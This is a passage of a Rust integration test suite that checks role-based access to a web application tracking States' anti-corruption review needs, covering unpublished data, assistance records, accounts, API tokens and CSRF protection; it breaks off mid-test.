//! Who sees and does what: every signed-in route as every role, on SQLite
//! and on PostgreSQL.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};

use tana::accounts::{Account, Role, hash_password};
use tana::store::{self, Location};
use tana::web::{App, spawn};

use crate::store::PgDatabase;
use crate::{Dir, project, s};

pub(crate) const PASSWORD: &str = "a password long enough";

/// Words of a need of Viet Nam that no document is recorded for: the
/// matrix's workspace holds them (see [`matrix_examples`]).
const UNSOURCED: &str = "Unattributed remark on asset declarations";

/// Rows of needs the matrix adds to the examples: words for a published
/// need of Viet Nam that name no document (an empty `source`), and a need
/// named only in its unpublished self-assessment.
const EXTRA_NEEDS: &str = "Viet Nam,1,32,capacity_building,,,Unattributed remark on asset declarations,\nViet Nam,1,18,capacity_building,self_assessment,,,\n";

/// A page without the marks of the words searched for.
pub(crate) fn unmarked(page: &str) -> String {
    page.replace("<mark>", "").replace("</mark>", "")
}

/// One request: status, headers and body.
pub(crate) fn send(
    addr: SocketAddr,
    method: &str,
    path: &str,
    cookie: Option<&str>,
    form: &str,
) -> (u16, String, String) {
    let mut stream = TcpStream::connect(addr).unwrap();
    let mut head = format!("{method} {path} HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\n");
    if let Some(c) = cookie {
        head.push_str(&format!("Cookie: tana_session={c}\r\n"));
    }
    if method == "POST" {
        head.push_str(&format!(
            "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n",
            form.len()
        ));
    }
    write!(stream, "{head}\r\n{form}").unwrap();
    let mut raw = Vec::new();
    stream.read_to_end(&mut raw).unwrap();
    let text = String::from_utf8_lossy(&raw).to_string();
    let (headers, body) = text.split_once("\r\n\r\n").unwrap();
    (
        headers[9..12].parse().unwrap(),
        headers.to_string(),
        body.to_string(),
    )
}

/// Accounts, all with the one test password.
pub(crate) fn add_accounts(location: &Location, accounts: &[(&str, Role, Option<&str>)]) {
    let mut st = store::open(location).unwrap();
    for &(name, role, state) in accounts {
        let account = Account {
            name: name.into(),
            role,
            state: state.map(str::to_string),
        };
        st.add_account(&account, &hash_password(PASSWORD).unwrap(), 0)
            .unwrap();
    }
}

/// Logs in; returns the session token and the form secret.
pub(crate) fn login(addr: SocketAddr, name: &str) -> (String, String) {
    let (status, headers, _) = send(
        addr,
        "POST",
        "/login",
        None,
        &format!("name={name}&password={}", PASSWORD.replace(' ', "+")),
    );
    assert_eq!(status, 303, "{name} logs in");
    let cookie = headers
        .lines()
        .find(|l| l.to_ascii_lowercase().starts_with("set-cookie:"))
        .unwrap();
    assert!(
        cookie.contains("HttpOnly") && cookie.contains("SameSite=Strict"),
        "{cookie}"
    );
    let token = cookie
        .split("tana_session=")
        .nth(1)
        .unwrap()
        .split(';')
        .next()
        .unwrap()
        .to_string();
    let (_, _, page) = send(addr, "GET", "/states/VNM", Some(&token), "");
    let csrf = page
        .split("name=\"csrf\" value=\"")
        .nth(1)
        .map(|r| r[..64].to_string())
        .unwrap_or_default();
    (token, csrf)
}

pub(crate) fn needs_of(addr: SocketAddr, token: Option<&str>) -> Vec<serde_json::Value> {
    let (status, _, body) = send(addr, "GET", "/api/v1/states/VNM/needs", token, "");
    assert_eq!(status, 200);
    serde_json::from_str::<Vec<serde_json::Value>>(&body).unwrap()
}

/// POSTs a form to `path` as each role in turn, with the role's own form
/// secret before `form`, and checks the status each gets.
pub(crate) fn post_as_each<'a>(
    addr: SocketAddr,
    sessions: impl Iterator<Item = &'a (&'a str, Option<(String, String)>)>,
    path: &str,
    form: &str,
    expected: impl Fn(&str) -> u16,
) {
    for (who, session) in sessions {
        let token = session.as_ref().map(|s| s.0.as_str());
        let csrf = session.as_ref().map(|s| s.1.as_str()).unwrap_or_default();
        let (status, _, body) = send(addr, "POST", path, token, &format!("csrf={csrf}&{form}"));
        assert_eq!(status, expected(who), "{who} POST {path}: {body}");
    }
}

/// Whether the words of [`UNSOURCED`] show to the bearer of `token` on the
/// State's page, its needs API, the needs list, the search API and the
/// search page.
fn unsourced_shown(addr: SocketAddr, token: Option<&str>) -> [bool; 5] {
    [
        "/states/VNM",
        "/api/v1/states/VNM/needs",
        "/api/v1/needs",
        "/api/v1/search?q=unattributed+remark",
        "/search?q=unattributed+remark",
    ]
    .map(|path| {
        let (status, _, body) = send(addr, "GET", path, token, "");
        assert_eq!(status, 200, "{path}");
        unmarked(&body).contains(UNSOURCED)
    })
}

fn matrix(location: &Location) {
    add_accounts(
        location,
        &[
            ("sec", Role::Secretariat, None),
            ("vn", Role::FocalPoint, Some("VNM")),
            ("ke", Role::FocalPoint, Some("KEN")),
            ("donor", Role::Provider, None),
        ],
    );
    let mut st = store::open(location).unwrap();
    st.add_token(&store::digest("script-token-of-the-secretariat"), "sec", 0)
        .unwrap();
    st.add_token(&store::digest("script-token-of-viet-nam"), "vn", 0)
        .unwrap();
    st.add_token(&store::digest("script-token-of-a-donor"), "donor", 0)
        .unwrap();
    drop(st);
    let addr = spawn(
        App::open(location, false).unwrap(),
        "127.0.0.1:0".parse().unwrap(),
    )
    .unwrap();

    // What the example files hold for Viet Nam: every need, and the words
    // only its country report and self-assessment use (unpublished).
    let csv = std::fs::read_to_string(project("examples/needs.csv")).unwrap() + EXTRA_NEEDS;
    let vnm: Vec<Vec<&str>> = csv
        .lines()
        .filter(|l| l.starts_with("Viet Nam,"))
        .map(|l| l.split(',').collect())
        .collect();
    let mut all: Vec<(&str, &str)> = vnm.iter().map(|f| (f[2], f[3])).collect();
    all.sort_unstable();
    all.dedup();
    let mut published: Vec<(&str, &str)> = vnm
        .iter()
        .filter(|f| f[4] == "executive_summary")
        .map(|f| (f[2], f[3]))
        .collect();
    published.sort_unstable();
    published.dedup();
    let secret: Vec<&str> = vnm
        .iter()
        .filter(|f| !matches!(f[4], "executive_summary" | "") && !f[6].is_empty())
        .map(|f| f[6])
        .collect();
    assert!(
        published.len() < all.len() && !secret.is_empty(),
        "the examples hold unpublished records"
    );

    let sessions: Vec<(&str, Option<(String, String)>)> = vec![
        ("public", None),
        ("sec", Some(login(addr, "sec"))),
        ("vn", Some(login(addr, "vn"))),
        ("ke", Some(login(addr, "ke"))),
        ("donor", Some(login(addr, "donor"))),
    ];
    crate::readings::matrix_rows(addr, location, &sessions);
    for (who, session) in &sessions {
        let token = session.as_ref().map(|s| s.0.as_str());
        let sees_all = matches!(*who, "sec" | "vn");
        // The needs API and the State's page.
        let needs = needs_of(addr, token);
        assert_eq!(
            needs.len(),
            if sees_all { all.len() } else { published.len() },
            "{who}"
        );
        let (status, _, page) = send(addr, "GET", "/states/VNM", token, "");
        assert_eq!(status, 200);
        for words in &secret {
            assert_eq!(page.contains(words), sees_all, "{who} and `{words}`");
            assert_eq!(
                serde_json::to_string(&needs).unwrap().contains(words),
                sees_all,
                "{who}"
            );
        }
        // The login page says who is signed in already.
        let (_, _, login_page) = send(addr, "GET", "/login", token, "");
        assert_eq!(
            login_page.contains(&format!("Signed in as <strong>{who}</strong>")),
            token.is_some(),
            "{who}"
        );
        // The list across States shows of Viet Nam what its page shows.
        let (status, _, listed) = send(addr, "GET", "/api/v1/needs", token, "");
        assert_eq!(status, 200);
        let listed: Vec<serde_json::Value> = serde_json::from_str(&listed).unwrap();
        assert_eq!(
            listed.iter().filter(|n| n["state"] == "VNM").count(),
            needs.len(),
            "{who}"
        );
        let (_, _, article16) = send(addr, "GET", "/api/v1/needs?article=16&open=1", token, "");
        let article16: Vec<serde_json::Value> = serde_json::from_str(&article16).unwrap();
        assert!(
            article16
                .iter()
                .all(|n| n["article"] == 16 && n["addressed"] == false)
        );
        // The public routes answer every role alike, and never with words
        // a reader may not read.
        for path in [
            "/",
            "/regions/APG",
            "/articles/16",
            "/search?q=bribery",
            "/needs",
            "/needs?region=APG&open=on",
            "/report.html",
            "/report.json",
            "/report.tables",
            "/api/v1/analysis",
            "/api/v1/articles/16",
            "/api/v1/report",
            "/api/v1/openapi.json",
            "/needs?q=drafting&sort=date&per=100",
            "/needs.csv",
            "/needs.json?status=open",
            "/needs.xlsx",
            "/gaps",
            "/gaps?by=group-type&region=APG",
            "/gaps.csv",
            "/gaps.json?cycle=1&article=16,32",
            "/gaps.xlsx",
            "/data",
            "/data/codebook",
            "/data/codebook.csv",
            "/data/reviews.csv",
            "/data/needs.csv",
            "/data/needs.json",
            "/data/needs.xlsx",
            "/data/challenges.json",
            "/data/good_practices.csv",
            "/data/assistance.csv",
            "/data/aggregates.json",
        ] {
            let (status, _, body) = send(addr, "GET", path, token, "");
            assert_eq!(status, 200, "{who} {path}");
            if !sees_all {
                for words in &secret {
                    assert!(!body.contains(words), "{who} {path} shows `{words}`");
                }
            }
        }
        // Search finds the words of the documents the reader may read.
        let search = |q: &str| {
            let (status, _, body) = send(addr, "GET", &format!("/api/v1/search?q={q}"), token, "");
            assert_eq!(status, 200, "{q}");
            body
        };
        assert_eq!(
            search("DRAFTING+offence").contains("Drafting of the offence"),
            sees_all,
            "{who}"
        );
        assert!(
            search("witness+protection").contains("Training of witness protection staff"),
            "{who}"
        );
        // The finder's downloads hold the words the reader may read; open
        // data only what the public may, whoever asks.
        for words in &secret {
            let (_, _, csv) = send(addr, "GET", "/needs.csv", token, "");
            assert_eq!(
                csv.contains(words),
                sees_all,
                "{who} /needs.csv and `{words}`"
            );
            let (_, _, json) = send(addr, "GET", "/needs.json?state=VNM", token, "");
            assert_eq!(
                json.contains(words),
                sees_all,
                "{who} /needs.json and `{words}`"
            );
            let (_, _, open) = send(addr, "GET", "/data/needs.csv", token, "");
            assert!(
                !open.contains(words),
                "{who} /data/needs.csv shows `{words}`"
            );
        }
        let (status, _, _) = send(addr, "GET", "/report.pdf", token, "");
        assert!(matches!(status, 200 | 503), "{who} /report.pdf: {status}");
        let (_, _, page) = send(addr, "GET", "/search?q=offence+drafting", token, "");
        assert_eq!(
            unmarked(&page).contains("Drafting of the offence"),
            sees_all,
            "{who}: the search page"
        );
        assert_eq!(send(addr, "GET", "/api/v1/search?q=", token, "").0, 400);
        // Words of no known document: the secretariat and the State's
        // focal points read them, on every route, and nobody else.
        let sees_unsourced = matches!(*who, "sec" | "vn");
        assert_eq!(unsourced_shown(addr, token), [sees_unsourced; 5], "{who}");
        // The log of changes: the secretariat's alone.
        let (status, _, _) = send(addr, "GET", "/api/v1/log", token, "");
        assert_eq!(
            status,
            match *who {
                "public" => 401,
                "sec" => 200,
                _ => 403,
            },
            "{who} reads the log"
        );
        // Marking a need addressed: the secretariat, the State's focal point, providers.
        let csrf = session.as_ref().map(|s| s.1.clone()).unwrap_or_default();
        let form =
            format!("csrf={csrf}&cycle=1&article=16&type=model_legislation&addressed=on&by=UNDP");
        let (status, _, _) = send(addr, "POST", "/states/VNM/addressed", token, &form);
        let expected = match *who {
            "public" => 401,
            "ke" => 403,
            // Named only in the unpublished, unshared self-assessment: for
            // a provider, no need at all.
            "donor" => 404,
            _ => 303,
        };
        assert_eq!(status, expected, "{who} marks a need addressed");
        // A form without the session's secret is refused.
        if token.is_some() {
            let forged = "csrf=0000&cycle=1&article=16&type=model_legislation&addressed=on";
            assert_eq!(
                send(addr, "POST", "/states/VNM/addressed", token, forged).0,
                403,
                "{who}"
            );
        }
    }
    // The change shows, and the log says who made it, before and after.
    let sec = sessions[1].1.as_ref().unwrap();
    let needs = needs_of(addr, Some(&sec.0));
    assert!(
        needs.iter().any(|n| n["article"] == 16
            && n["type"] == "model_legislation"
            && n["addressed"] == true)
    );
    let (_, _, log) = send(addr, "GET", "/api/v1/log", Some(&sec.0), "");
    let log: Vec<serde_json::Value> = serde_json::from_str(&log).unwrap();
    let marks: Vec<&str> = log
        .iter()
        .filter(|e| e["action"] == "mark need addressed")
        .map(|e| e["who"].as_str().unwrap())
        .collect();
    assert_eq!(marks.len(), 2, "{log:?}");
    assert!(marks.contains(&"vn") && marks.contains(&"sec"));
    // A need a provider may not read is answered as one that does not
    // exist: same status, same body; and it stays as it was.
    let donor_session = sessions[4].1.as_ref().unwrap();
    let mark = |kind: &str| {
        let form = format!(
            "csrf={}&cycle=1&article=18&type={kind}&addressed=on",
            donor_session.1
        );
        let (status, _, body) = send(
            addr,
            "POST",
            "/states/VNM/addressed",
            Some(&donor_session.0),
            &form,
        );
        (status, body)
    };
    let hidden = mark("capacity_building");
    assert_eq!(hidden.0, 404);
    assert_eq!(hidden, mark("onsite_expert"), "hidden and missing alike");
    assert!(
        needs_of(addr, Some(&sec.0))
            .iter()
            .any(|n| n["article"] == 18
                && n["type"] == "capacity_building"
                && n["addressed"] == false),
        "the hidden need is not marked"
    );
    assert!(
        !serde_json::to_string(&log).unwrap().contains("argon2"),
        "no secret in the log"
    );
    // Aggregates count every record, whoever asks.
    let (_, _, public) = send(addr, "GET", "/api/v1/analysis", None, "");
    let v: serde_json::Value = serde_json::from_str(&public).unwrap();
    assert_eq!(
        v["addressed"], 2,
        "the example's need and the one just marked"
    );

    // A State's consent opens its unpublished needs to providers, and to
    // no one else; its focal points and the secretariat give it.
    post_as_each(
        addr,
        sessions.iter(),
        "/states/VNM/sharing",
        "cycle=1&shared=on",
        |who| match who {
            "public" => 401,
            "sec" | "vn" => 303,
            _ => 403,
        },
    );
    for (who, session) in &sessions {
        let token = session.as_ref().map(|s| s.0.as_str());
        let sees_all = matches!(*who, "sec" | "vn" | "donor");
        assert_eq!(
            needs_of(addr, token).len(),
            if sees_all { all.len() } else { published.len() },
            "{who}, once Viet Nam shares"
        );
        let (_, _, page) = send(addr, "GET", "/states/VNM", token, "");
        let (_, _, found) = send(addr, "GET", "/api/v1/search?q=drafting+offence", token, "");
        for words in &secret {
            assert_eq!(page.contains(words), sees_all, "{who} and `{words}`");
        }
        assert_eq!(
            found.contains("Drafting of the offence"),
            sees_all,
            "{who} searches"
        );
        // Consent to share opens no words of unknown origin.
        let sees_unsourced = matches!(*who, "sec" | "vn");
        assert_eq!(
            unsourced_shown(addr, token),
            [sees_unsourced; 5],
            "{who}, shared"
        );
    }

    // Providers record assistance against needs they can read; the
    // secretariat, the provider and the State's focal points read it.
    let assist = |session: &Option<(String, String)>, need: &str, rest: &str| {
        let token = session.as_ref().map(|s| s.0.as_str());
        let csrf = session.as_ref().map(|s| s.1.clone()).unwrap_or_default();
        send(
            addr,
            "POST",
            "/states/VNM/assistance",
            token,
            &format!("csrf={csrf}&need={need}&{rest}"),
        )
        .0
    };
    let donor = &sessions[4].1;
    let (art, kind) = published[0];
    let open_need = format!("1:{art}:{kind}");
    let good = "title=Workshop+for+witness+protection+officers&status=ongoing&starts=2014-01-06&ends=2014-03-28";
    for (who, session) in &sessions {
        let expected = match *who {
            "public" => 401,
            "sec" | "donor" => 303,
            _ => 403,
        };
        assert_eq!(
            assist(session, &open_need, good),
            expected,
            "{who} records assistance"
        );
    }
    for wrong in [
        "title=&status=ongoing",
        "title=x&status=someday",
        "title=x&status=planned&starts=2014-05-01&ends=2014-04-01",
        "title=x&status=planned&starts=2014-02-30",
    ] {
        assert_eq!(assist(donor, &open_need, wrong), 400, "{wrong}");
    }
    assert_eq!(assist(donor, "1:99:capacity_building", good), 400);
    let read = |session: &Option<(String, String)>| {
        let token = session.as_ref().map(|s| s.0.as_str());
        let (status, _, body) = send(addr, "GET", "/api/v1/assistance", token, "");
        let count = serde_json::from_str::<Vec<serde_json::Value>>(&body).map_or(0, |v| v.len());
        (status, count, send(addr, "GET", "/assistance", token, "").0)
    };
    for (who, session) in &sessions {
        let expected = match *who {
            "public" => (401, 0, 401),
            "sec" | "vn" => (200, 2, 200),
            "donor" => (200, 1, 200),
            _ => (200, 0, 200),
        };
        assert_eq!(read(session), expected, "{who} reads the assistance");
        let token = session.as_ref().map(|s| s.0.as_str());
        let (status, _, csv) = send(addr, "GET", "/assistance.csv", token, "");
        assert_eq!(status, expected.0, "{who} downloads the assistance");
        if status == 200 {
            assert_eq!(csv.lines().count(), expected.1 + 1, "{who}: {csv}");
            assert!(csv.starts_with("id,state,cycle,article,type,title,status"));
        }
    }
    let (_, _, donor_page) = send(
        addr,
        "GET",
        "/states/VNM",
        Some(&donor.as_ref().unwrap().0),
        "",
    );
    assert!(donor_page.contains("Workshop for witness protection officers"));
    let (_, _, ke_page) = send(
        addr,
        "GET",
        "/states/VNM",
        Some(&sessions[3].1.as_ref().unwrap().0),
        "",
    );
    assert!(!ke_page.contains("Workshop for witness protection officers"));

    // The provider who recorded assistance, and the secretariat, change
    // its stage; the State's focal point reads it but does not change it;
    // others do not even find it.
    let (_, _, mine) = send(
        addr,
        "GET",
        "/api/v1/assistance",
        Some(&donor.as_ref().unwrap().0),
        "",
    );
    let id = serde_json::from_str::<Vec<serde_json::Value>>(&mine).unwrap()[0]["id"]
        .as_i64()
        .unwrap();
    post_as_each(
        addr,
        sessions.iter(),
        &format!("/assistance/{id}"),
        "status=completed&ends=2014-04-30",
        |who| match who {
            "public" => 401,
            "sec" | "donor" => 303,
            "vn" => 403,
            _ => 404,
        },
    );
    let donor_csrf = &donor.as_ref().unwrap().1;
    for wrong in ["status=done", "status=completed&ends=2013-01-01"] {
        assert_eq!(
            send(
                addr,
                "POST",
                &format!("/assistance/{id}"),
                Some(&donor.as_ref().unwrap().0),
                &format!("csrf={donor_csrf}&{wrong}")
            )
            .0,
            400,
            "{wrong}"
        );
    }
    let (_, _, mine) = send(
        addr,
        "GET",
        "/api/v1/assistance",
        Some(&donor.as_ref().unwrap().0),
        "",
    );
    assert!(mine.contains("\"status\":\"completed\"") && mine.contains("2014-04-30"));

    // Withdrawn, the last assistance against a need leaves the need as it
    // was before: here a need nobody addressed.
    let secretariat = &sessions[1].1;
    let addressed = |article: u64, kind: &str| {
        needs_of(addr, Some(&secretariat.as_ref().unwrap().0))
            .iter()
            .find(|n| n["article"] == article && n["type"] == kind)
            .map(|n| n["addressed"] == true)
            .unwrap()
    };
    assert!(!addressed(46, "good_practices"));
    assert_eq!(assist(secretariat, "1:46:good_practices", good), 303);
    assert!(addressed(46, "good_practices"));
    let (_, _, all_records) = send(
        addr,
        "GET",
        "/api/v1/assistance",
        Some(&secretariat.as_ref().unwrap().0),
        "",
    );
    let new_id = serde_json::from_str::<Vec<serde_json::Value>>(&all_records).unwrap()[0]["id"]
        .as_i64()
        .unwrap();
    // The secretariat last: before, the others are refused.
    post_as_each(
        addr,
        sessions.iter().rev(),
        &format!("/assistance/{new_id}/withdraw"),
        "",
        |who| match who {
            "public" => 401,
            "sec" => 303,
            "vn" => 403,
            // The provider did not record it, and may not read it.
            _ => 404,
        },
    );
    assert!(!addressed(46, "good_practices"), "back as it was");
    assert_eq!(
        send(
            addr,
            "POST",
            &format!("/assistance/{new_id}/withdraw"),
            Some(&secretariat.as_ref().unwrap().0),
            &format!("csrf={}", secretariat.as_ref().unwrap().1)
        )
        .0,
        404,
        "withdrawn once"
    );

    // Withdrawn, the consent closes the unpublished needs to providers
    // again, and assistance is refused against them.
    let vn = &sessions[2].1;
    assert_eq!(
        send(
            addr,
            "POST",
            "/states/VNM/sharing",
            vn.as_ref().map(|s| s.0.as_str()),
            &format!("csrf={}&cycle=1", vn.as_ref().unwrap().1)
        )
        .0,
        303
    );
    assert_eq!(
        needs_of(addr, donor.as_ref().map(|s| s.0.as_str())).len(),
        published.len()
    );
    let (secret_art, secret_kind) = *all.iter().find(|n| !published.contains(n)).unwrap();
    assert_eq!(
        assist(donor, &format!("1:{secret_art}:{secret_kind}"), good),
        400,
        "a need the provider cannot read"
    );
    follow_rows(addr, &sessions);
    crate::plans::plan_rows(addr, location, &sessions);
    gap_rows(addr, &sessions);
    crate::alerts::matrix_rows(addr, &sessions, &secret);

    // Only the secretariat edits what a document says of a need.
    post_as_each(
        addr,
        sessions.iter(),
        "/states/VNM/needs/text",
        "cycle=1&article=16&type=legislative_drafting&source=country_report&paragraph=12&text=Drafting+of+the+offence+of+foreign+bribery+and+of+its+penalties",
        |who| match who {
            "public" => 401,
            "sec" => 303,
            _ => 403,
        },
    );
    let sec_session = sessions[1].1.as_ref().unwrap();
    let (_, _, page) = send(addr, "GET", "/states/VNM", Some(&sec_session.0), "");
    assert!(page.contains("Drafting of the offence of foreign bribery and of its penalties"));
    let not_named = format!(
        "csrf={}&cycle=1&article=16&type=legislative_drafting&source=executive_summary&text=x",
        sec_session.1
    );
    assert_eq!(
        send(
            addr,
            "POST",
            "/states/VNM/needs/text",
            Some(&sec_session.0),
            &not_named
        )
        .0,
        404
    );
    // Only the secretariat removes a need, and not one that is being helped.
    let (removable_art, removable_kind) = *all
        .iter()
        .find(|n| !published.contains(n) && n.0 != "16")
        .unwrap();
    let before_removal = needs_of(addr, Some(&sec_session.0)).len();
    post_as_each(
        addr,
        sessions.iter(),
        "/states/VNM/needs/remove",
        &format!("cycle=1&article={removable_art}&type={removable_kind}"),
        |who| match who {
            "public" => 401,
            "sec" => 303,
            _ => 403,
        },
    );
    assert_eq!(
        needs_of(addr, Some(&sec_session.0)).len(),
        before_removal - 1
    );
    let remove_need = |article: &str, kind: &str| {
        send(
            addr,
            "POST",
            "/states/VNM/needs/remove",
            Some(&sec_session.0),
            &format!(
                "csrf={}&cycle=1&article={article}&type={kind}",
                sec_session.1
            ),
        )
        .0
    };
    assert_eq!(
        remove_need(art, kind),
        409,
        "assistance is recorded against it"
    );
    assert_eq!(
        remove_need(removable_art, removable_kind),
        404,
        "gone already"
    );
    let (_, _, log) = send(addr, "GET", "/api/v1/log", Some(&sec_session.0), "");
    for action in [
        "share with providers",
        "record assistance",
        "update assistance",
        "withdraw assistance",
        "edit need text",
        "remove need",
    ] {
        assert!(log.contains(action), "{action} is logged");
    }

    // Only the secretariat edits a review; publishing the country report
    // opens its words to everyone.
    for (who, session) in &sessions {
        let token = session.as_ref().map(|s| s.0.as_str());
        let csrf = session.as_ref().map(|s| s.1.clone()).unwrap_or_default();
        let form = format!(
            "csrf={csrf}&cycle=1&completed=2013-06-14&executive_summary=on&country_report=on"
        );
        let expected = match *who {
            "public" => 401,
            "sec" => 303,
            _ => 403,
        };
        if *who == "sec" {
            let wrong = format!("csrf={csrf}&cycle=1&completed=2013-02-30&executive_summary=on");
            assert_eq!(
                send(addr, "POST", "/states/VNM/review", token, &wrong).0,
                400
            );
        }
        assert_eq!(
            send(addr, "POST", "/states/VNM/review", token, &form).0,
            expected,
            "{who} edits a review"
        );
    }
    let (_, _, page) = send(addr, "GET", "/states/VNM", None, "");
    assert!(
        page.contains("Drafting of the offence of foreign bribery"),
        "the country report's words are public now"
    );
    assert!(
        !page.contains("Legal advice on foreign bribery"),
        "the self-assessment's are not"
    );
    let (_, _, log) = send(
        addr,
        "GET",
        "/api/v1/log",
        Some(&sessions[1].1.as_ref().unwrap().0),
        "",
    );
    assert!(
        log.contains("edit review") && log.contains("country_report"),
        "{log}"
    );

    // Only the secretariat manages accounts.
    let password = PASSWORD.replace(' ', "+");
    for (who, session) in &sessions {
        let token = session.as_ref().map(|s| s.0.as_str());
        let csrf = session.as_ref().map(|s| s.1.clone()).unwrap_or_default();
        let (page, add) = match *who {
            "public" => (401, 401),
            "sec" => (200, 303),
            _ => (403, 403),
        };
        assert_eq!(
            send(addr, "GET", "/accounts", token, "").0,
            page,
            "{who} lists accounts"
        );
        let form = format!("csrf={csrf}&name=new-{who}&role=provider&state=&password={password}");
        assert_eq!(
            send(addr, "POST", "/accounts", token, &form).0,
            add,
            "{who} adds an account"
        );
    }
    let (sec_token, sec_csrf) = sessions[1].1.clone().unwrap();
    let again = format!("csrf={sec_csrf}&name=new-sec&role=provider&state=&password={password}");
    assert_eq!(
        send(addr, "POST", "/accounts", Some(&sec_token), &again).0,
        409
    );
    let bad_role = format!("csrf={sec_csrf}&name=x1&role=king&state=&password={password}");
    assert_eq!(
        send(addr, "POST", "/accounts", Some(&sec_token), &bad_role).0,
        400
    );
    let no_state = format!("csrf={sec_csrf}&name=x2&role=focal_point&state=&password={password}");
    assert_eq!(
        send(addr, "POST", "/accounts", Some(&sec_token), &no_state).0,
        400
    );
    let (new_token, _) = login(addr, "new-sec");
    let (_, _, list) = send(addr, "GET", "/accounts", Some(&sec_token), "");
    assert!(list.contains("new-sec") && !list.contains("new-vn") && !list.contains("argon2"));
    // (a provider: signed in, but not the secretariat)
    assert_eq!(send(addr, "GET", "/accounts", Some(&new_token), "").0, 403);
    // Removing an account ends its sessions; only the secretariat removes,
    // and not its own account.
    post_as_each(
        addr,
        sessions.iter(),
        "/accounts/new-sec/remove",
        "",
        |who| match who {
            "public" => 401,
            "sec" => 303,
            _ => 403,
        },
    );
    assert_eq!(send(addr, "GET", "/accounts", Some(&new_token), "").0, 401);
    let remove = |name: &str| {
        send(
            addr,
            "POST",
            &format!("/accounts/{name}/remove"),
            Some(&sec_token),
            &format!("csrf={sec_csrf}"),
        )
        .0
    };
    assert_eq!(remove("new-sec"), 404);
    assert_eq!(remove("sec"), 409);

    // A focal point proposes a need; only the secretariat accepts it, and
    // then it counts.
    let needs_before = needs_of(addr, Some(&sessions[1].1.as_ref().unwrap().0)).len();
    post_as_each(
        addr,
        sessions.iter(),
        "/states/VNM/proposals",
        "cycle=1&article=33&type=capacity_building&source=self_assessment&text=Training+for+whistle-blower+units",
        |who| match who {
            "public" => 401,
            "vn" => 303,
            _ => 403,
        },
    );
    let (vn_token, vn_csrf) = sessions[2].1.clone().unwrap();
    let wrong = format!(
        "csrf={vn_csrf}&cycle=1&article=99&type=capacity_building&source=self_assessment&text=x"
    );
    assert_eq!(
        send(
            addr,
            "POST",
            "/states/VNM/proposals",
            Some(&vn_token),
            &wrong
        )
        .0,
        400
    );
    let (sec_token, sec_csrf) = sessions[1].1.clone().unwrap();
    let (_, _, page) = send(addr, "GET", "/states/VNM", Some(&sec_token), "");
    let id: i64 = page
        .split("action=\"/proposals/")
        .nth(1)
        .unwrap()
        .split('"')
        .next()
        .unwrap()
        .parse()
        .unwrap();
    assert_eq!(
        needs_of(addr, Some(&sec_token)).len(),
        needs_before,
        "a proposal is not a record yet"
    );
    let decide = |token: &str, csrf: &str, decision: &str| {
        send(
            addr,
            "POST",
            &format!("/proposals/{id}"),
            Some(token),
            &format!("csrf={csrf}&decision={decision}"),
        )
        .0
    };
    assert_eq!(decide(&vn_token, &vn_csrf, "accept"), 403);
    assert_eq!(decide(&sec_token, &sec_csrf, "accept"), 303);
    assert_eq!(decide(&sec_token, &sec_csrf, "accept"), 404, "decided once");
    let after = needs_of(addr, Some(&sec_token));
    assert_eq!(after.len(), needs_before + 1);
    assert!(
        serde_json::to_string(&after)
            .unwrap()
            .contains("Training for whistle-blower units")
    );

    // Scripts use API tokens, with the rights of their account.
    let bearer = |token: &str, path: &str| {
        let mut stream = TcpStream::connect(addr).unwrap();
        write!(stream, "GET {path} HTTP/1.1\r\nHost: {addr}\r\nAuthorization: Bearer {token}\r\nConnection: close\r\n\r\n").unwrap();
        let mut raw = String::new();
        stream.read_to_string(&mut raw).unwrap();
        let (head, body) = raw.split_once("\r\n\r\n").unwrap();
        (head[9..12].parse::<u16>().unwrap(), body.to_string())
    };
    assert_eq!(
        bearer("script-token-of-the-secretariat", "/api/v1/log").0,
        200
    );
    assert_eq!(bearer("script-token-of-viet-nam", "/api/v1/log").0, 403);
    assert_eq!(bearer("no-such-token", "/api/v1/log").0, 401);
    let (_, body) = bearer("script-token-of-viet-nam", "/api/v1/states/VNM/needs");
    assert_eq!(
        serde_json::from_str::<Vec<serde_json::Value>>(&body)
            .unwrap()
            .len(),
        after.len()
    );

    // A provider's script records assistance with its token; a session
    // cookie is not enough there, and the rules are the pages'.
    let post_json = |auth: &str, body: &str| {
        let mut stream = TcpStream::connect(addr).unwrap();
        write!(
            stream,
            "POST /api/v1/assistance HTTP/1.1\r\nHost: {addr}\r\n{auth}Content-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
            body.len()
        )
        .unwrap();
        let mut raw = String::new();
        stream.read_to_string(&mut raw).unwrap();
        let (head, body) = raw.split_once("\r\n\r\n").unwrap();
        (head[9..12].parse::<u16>().unwrap(), body.to_string())
    };
    let donor_script = "Authorization: Bearer script-token-of-a-donor\r\n";
    let good = format!(
        r#"{{"state":"VNM","cycle":1,"article":{art},"type":"{kind}","title":"Mentoring of prosecutors","status":"planned","starts":"2015-01-05"}}"#
    );
    assert_eq!(post_json("", &good).0, 401);
    let donor_cookie = format!("Cookie: tana_session={}\r\n", donor.as_ref().unwrap().0);
    assert_eq!(
        post_json(&donor_cookie, &good).0,
        401,
        "a cookie is not a token"
    );
    assert_eq!(
        post_json("Authorization: Bearer script-token-of-viet-nam\r\n", &good).0,
        403
    );
    for wrong in [
        "{".to_string(),
        good.replace("\"title\"", "\"name\""),
        good.replace("planned", "soon"),
        good.replace(&format!("\"article\":{art}"), "\"article\":16"),
    ] {
        let (status, body) = post_json(donor_script, &wrong);
        assert_eq!(status, 400, "{wrong}: {body}");
        assert!(body.contains("\"error\""), "{body}");
    }
    // A body over 64 KB: 413, in JSON.
    let huge = format!("{{\"title\":\"{}\"}}", "x".repeat(70 * 1024));
    let (status, body) = post_json(donor_script, &huge);
    assert_eq!(status, 413, "{body}");
    assert!(body.contains("\"error\""), "{body}");
    let (status, body) = post_json(donor_script, &good);
    assert_eq!(status, 201, "{body}");
    let id = serde_json::from_str::<serde_json::Value>(&body).unwrap()["id"]
        .as_i64()
        .unwrap();
    let (_, mine) = bearer("script-token-of-a-donor", "/api/v1/assistance");
    assert!(mine.contains("Mentoring of prosecutors") && mine.contains(&format!("\"id\":{id}")));

    // Everyone changes their own password, giving the current one; the
    // account's other sessions end.
    let (vn_token, vn_csrf) = sessions[2].1.clone().unwrap();
    let (other_vn, _) = login(addr, "vn");
    assert_eq!(
        send(addr, "GET", "/api/v1/assistance", Some(&other_vn), "").0,
        200
    );
    let new_password = "another long password";
    let change = |current: &str, new: &str| {
        send(
            addr,
